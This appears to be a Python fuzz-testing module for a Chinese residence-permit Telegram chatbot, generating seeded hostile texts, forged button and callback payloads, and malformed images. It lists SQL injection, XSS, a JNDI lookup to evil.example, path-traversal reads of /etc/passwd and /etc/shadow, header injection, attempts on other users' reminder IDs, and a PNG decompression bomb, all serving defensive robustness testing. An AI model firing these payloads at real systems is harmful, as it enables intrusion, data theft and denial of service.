"""Deterministic hostile inputs: texts, button payloads, Telegram callback data and images.

Everything comes from a seeded ``random.Random`` so a failure can be replayed with the same seed
(the tests print it). Categories are labelled so a report can say what broke.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zlib
from collections.abc import Iterator

QUESTIONS = [
    "居住证怎么续签", "办居住证要多久", "居住证丢了怎么补办", "租房怎么办居住证", "居住证到期了怎么办",
    "孩子上学要居住证吗", "居住证需要什么材料", "证件照有什么要求", "可以找人代办吗", "网上怎么申请居住证",
    "社区事务受理中心在哪", "居住登记和居住证有什么区别", "换了工作要变更吗", "签注是什么意思",
]  # fmt: skip

INJECTIONS = [
    "'; DROP TABLE users; --", "1' OR '1'='1", "\" OR 1=1 --", "UNION SELECT sender_id FROM users",
    "<script>alert(1)</script>", "<b>粗体</b>", "<a href='javascript:alert(1)'>点我</a>", "&amp; &lt; &#x3C;",
    "</code><pre>", "<tg-spoiler>x</tg-spoiler>", "*粗体* _斜体_ `代码` [链接](http://evil.example)",
    "```\n代码块\n```", "__init__", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "{0.__class__}",
    "\\\\server\\share", "../../../../etc/passwd", "file:///etc/shadow", "\r\nSet-Cookie: x=1",
    "/restart", "/session_start", "/greet", '/choose_faq{"faq_id":"../../etc/passwd"}',
    '/choose_faq{"faq_id":"renewal_window","extra":"<b>"}', "/action_listen", "/nlu_fallback",
    '/inform_materials{"mat_housing":"own\\u0000"}', "@admin /stats", "/stats", "/mydata", "/forget",
]  # fmt: skip

PERSONAL = [
    "我的身份证号是310101199001011234", "身份证 31010119900101123X 手机 13812345678",
    "电话+86 138-1234-5678，帮我查一下", "旧身份证310101900101123能用吗", "联系我8613912345678",
]  # fmt: skip

SPECIAL_CHARS = [
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
    "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u034f", "\u180e",
    "\ufffd", "\ufffe", "\uffff", "\u0000", "\u0007", "\u001b[31m", "\x7f", "\x85", "\t", "\r", "\n",
    "\ud800", "\udfff", "\ud83d", "\ude00", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0301", "\u0336", "Z\u0351\u0358\u0342\u0360\u0350", "\U000e0001", "\U0010ffff", "\u3000", "\uff01",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u1100\u1161",
    "居", "證", "\u2f00", "\u3400", "\U00020000", "ﬁ", "①", "㊙", "\u33a1", "Ⅻ", "ｶﾀｶﾅ", "é", "ß",
]  # fmt: skip

UNICODE_BLOCKS = [
    (0x20, 0x7E), (0xA0, 0x24F), (0x300, 0x36F), (0x590, 0x6FF), (0x900, 0x97F), (0x1100, 0x11FF),
    (0x2000, 0x206F), (0x2190, 0x23FF), (0x2500, 0x27BF), (0x3000, 0x30FF), (0x4E00, 0x9FFF),
    (0xAC00, 0xD7A3), (0xD800, 0xDFFF), (0xE000, 0xF8FF), (0xFE00, 0xFE0F), (0xFF00, 0xFFEF),
    (0x1F300, 0x1FAFF), (0x20000, 0x2A6DF), (0xE0000, 0xE007F), (0x10FFF0, 0x10FFFF),
]  # fmt: skip


def random_unicode(rng: random.Random, length: int) -> str:
    chars = []
    for _ in range(length):
        low, high = rng.choice(UNICODE_BLOCKS)
        chars.append(chr(rng.randint(low, high)))
    return "".join(chars)


def hostile_text(rng: random.Random, reminder_ids: list[int] | None = None) -> tuple[str, str | bytes]:
    """(category, message) — bytes for the undecodable ones."""
    roll = rng.random()
    if roll < 0.16:
        return "random_unicode", random_unicode(rng, rng.randint(1, 60))
    if roll < 0.26:
        return "question_with_noise", "".join(
            rng.choice(SPECIAL_CHARS) if rng.random() < 0.25 else c for c in rng.choice(QUESTIONS)
        )
    if roll < 0.40:
        return "injection", rng.choice([
            rng.choice(INJECTIONS), f"{rng.choice(QUESTIONS)} {rng.choice(INJECTIONS)}",
            f"{rng.choice(INJECTIONS)}{rng.choice(QUESTIONS)}",
        ])  # fmt: skip
    if roll < 0.48:
        return "special_chars_only", "".join(rng.choice(SPECIAL_CHARS) for _ in range(rng.randint(1, 30)))
    if roll < 0.54:
        return "rtl_zero_width", "\u202e" + rng.choice(QUESTIONS) + "\u200b" * rng.randint(1, 50) + "\u202c"
    if roll < 0.60:
        return "personal_numbers", rng.choice(PERSONAL) + rng.choice(["", "，" + rng.choice(QUESTIONS)])
    if roll < 0.65:
        size = rng.choice([999, 1000, 1001, 1500, 5000, 65_536, 200_000])
        return "very_long", (rng.choice(QUESTIONS) * (size // 5 + 1))[:size]
    if roll < 0.69:
        return "long_noise", random_unicode(rng, rng.randint(300, 1000))
    if roll < 0.73:
        return "whitespace_or_empty", rng.choice(["", " ", "\n\n\t", "\u3000\u3000", "\u200b\u200b", "　 \r\n"])
    if roll < 0.77:
        raw = bytes(rng.randint(0, 255) for _ in range(rng.randint(1, 40)))
        return "raw_bytes", raw
    if roll < 0.81:
        return "repeated_punctuation", rng.choice(["？", "!", "。", "…", "~", "哈"]) * rng.randint(2, 900)
    if roll < 0.85:
        return "mixed_scripts", f"{random_unicode(rng, 5)}{rng.choice(QUESTIONS)}{random_unicode(rng, 5)}"
    if roll < 0.90:
        return "typed_payload", rng.choice(forged_payloads(rng, reminder_ids or [1, 2, 3]))
    return "plain_question", rng.choice(QUESTIONS)


def forged_payloads(rng: random.Random, reminder_ids: list[int]) -> list[str]:
    rid = rng.choice(reminder_ids) if reminder_ids else rng.randint(1, 10**6)
    return [
        "", "/", "//", "/ ", "greet", "/greet", "/greet{", "/greet}", "/greet{}", "/greet[]",
        '/choose_faq{"faq_id":1}', '/choose_faq{"faq_id":null}', '/choose_faq{"faq_id":["a"]}',
        '/choose_faq{"faq_id":"does_not_exist"}', '/choose_faq{"faq_id":"renewal_window"}',
        '/choose_faq{"faq_id":"' + "x" * 600 + '"}', "/choose_faq" + "{" * 200 + "}" * 200,
        '/faq_topic{"topic":"<script>"}', "/nonexistent_intent", "/restart", "/session_start",
        "/action_restart", "/nlu_fallback", '/feedback{"helpful":"maybe"}', "/feedback",
        f'/reminder_done{{"reminder_id":"{rid}"}}', f'/reminder_calendar{{"reminder_id":"{rid}"}}',
        f'/reminder_done{{"reminder_id":"{rid} OR 1=1"}}', '/reminder_done{"reminder_id":"-1"}',
        '/reminder_done{"reminder_id":"99999999999999999999"}', f'/reminder_off{{"reminder_id":"{rid}"}}',
        f'/reminder_delete{{"reminder_id":"{rid}"}}', f'/reminder_change{{"reminder_id":"{rid}"}}',
        f'/reminder_delete{{"reminder_id":{rid}}}', '/reminders_list', '/reminder_pick{"pick":"2027-02-30"}',
        '/reminder_pick{"pick":"9999"}', '/reminder_pick{"pick":"restart"}', "/remind_me",
        '/inform_materials{"mat_housing":"\\u0000"}', '/inform_materials{"mat_purpose":"../../x"}',
        "/greet\x00", "/greet\ud800", "/\u202egreet", "/" + "a" * 600, "/问题", "privacy:forget:0",
        "p:/greet", "k:AAAAAAAAAAAAAAAA", f"/{random_unicode(rng, 8)}",
    ]  # fmt: skip


def forged_callback_data(rng: random.Random, reminder_ids: list[int]) -> str:
    """Telegram callback_data as a tampering client could send it (≤ 64 bytes)."""
    payload = rng.choice(forged_payloads(rng, reminder_ids))
    data = rng.choice([
        "p:" + payload, "k:" + "".join(rng.choice("ABCDEFabcdef0123456789-_") for _ in range(16)),
        "k:" + payload, payload, "privacy:forget:" + str(rng.randint(0, 2**40)), "privacy:keep",
        "p:privacy:forget:1", "x" * 64, "", "p:", "k:",
    ])  # fmt: skip
    encoded = data.encode("utf-8", "ignore")[:64]
    return encoded.decode("utf-8", "ignore") or "p:"


def message_plan(
    seed: int, count: int, senders: int, reminder_ids: list[int] | None = None
) -> Iterator[tuple[str, str, str, str | bytes]]:
    """(sender, channel-call, category, content) for ``count`` messages over ``senders`` users;
    forged payloads name ``reminder_ids`` (someone else's reminders)."""
    rng = random.Random(seed)
    reminder_ids = reminder_ids or [1, 2, 3]
    for i in range(count):
        sender = f"fuzz:{seed}:{i % senders}"
        if rng.random() < 0.2:
            yield sender, "payload", "forged_payload", rng.choice(forged_payloads(rng, reminder_ids))
        else:
            category, content = hostile_text(rng, reminder_ids)
            yield sender, "text", category, content


# ------------------------------------------------------------------ images


def _png(width: int, height: int, body: bytes | None = None, color_type: int = 2, depth: int = 8) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, 0)
    raw = body if body is not None else zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _pillow(fmt: str, size: tuple[int, int], mode: str = "RGB", **save: object) -> bytes:
    from PIL import Image

    image = Image.new(mode, size, "white" if mode in {"RGB", "L"} else 0)
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def hostile_images(seed: int = 8) -> list[tuple[str, bytes]]:
    rng = random.Random(seed)
    jpeg = _pillow("JPEG", (640, 480))
    png = _pillow("PNG", (300, 400))
    bomb_body = zlib.compress(b"\x00" * (20_000_000))  # 20 MB of zeros in ~20 KB
    images = [
        ("empty", b""),
        ("one_byte", b"\xff"),
        ("random_bytes", bytes(rng.randint(0, 255) for _ in range(5000))),
        ("text_file", "这不是图片 <svg onload=alert(1)>".encode()),
        ("svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999"><script>alert(1)</script></svg>'),
        ("html", b"<html><body>hi</body></html>"),
        ("zip", b"PK\x03\x04" + bytes(100)),
        ("pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"),
        ("truncated_jpeg", jpeg[: len(jpeg) // 3]),
        ("jpeg_header_only", jpeg[:20]),
        ("jpeg_garbage_tail", jpeg + bytes(rng.randint(0, 255) for _ in range(2000))),
        ("truncated_png", png[: len(png) // 2]),
        ("png_bad_crc", png[:30] + b"\x00\x00\x00\x00" + png[34:]),
        ("png_zero_size", _png(0, 0)),
        ("png_huge_header", _png(100_000, 100_000)),
        ("png_bomb_4472x4472", _png(4472, 4472, bomb_body, color_type=0)),
        ("png_1x1", _pillow("PNG", (1, 1))),
        ("png_extreme_aspect", _pillow("PNG", (20000, 2), mode="L")),
        ("png_16bit", _png(64, 64, zlib.compress(b"\x00" + b"\x00" * 64 * 2 * 64), color_type=0, depth=16)),
        ("png_palette", _pillow("PNG", (64, 64), mode="P")),
        ("png_rgba", _pillow("PNG", (200, 200), mode="RGBA")),
        ("cmyk_jpeg", _pillow("JPEG", (200, 200), mode="CMYK")),
        ("grayscale_jpeg", _pillow("JPEG", (800, 600), mode="L")),
        ("gif", _pillow("GIF", (100, 100), mode="P")),
        ("bmp", _pillow("BMP", (100, 100))),
        ("tiff", _pillow("TIFF", (100, 100))),
        ("webp", _pillow("WEBP", (100, 100))),
        ("jpeg_exif_orientation_garbage", jpeg[:2] + b"\xff\xe1\x00\x10Exif\x00\x00MM\x00*\xff\xff\xff\xff" + jpeg[2:]),
        ("jpeg_then_zip_polyglot", jpeg + b"PK\x03\x04" + bytes(200)),
        ("all_ff", b"\xff" * 10_000),
        ("all_zero", b"\x00" * 10_000),
    ]
    for i in range(10):  # random bit flips in a valid photo
        data = bytearray(jpeg)
        for _ in range(20):
            data[rng.randrange(len(data))] = rng.randint(0, 255)
        images.append((f"bitflipped_jpeg_{i}", bytes(data)))
    return images


def json_safe(value: object) -> str:
    return json.dumps(value, ensure_ascii=True)[:120]
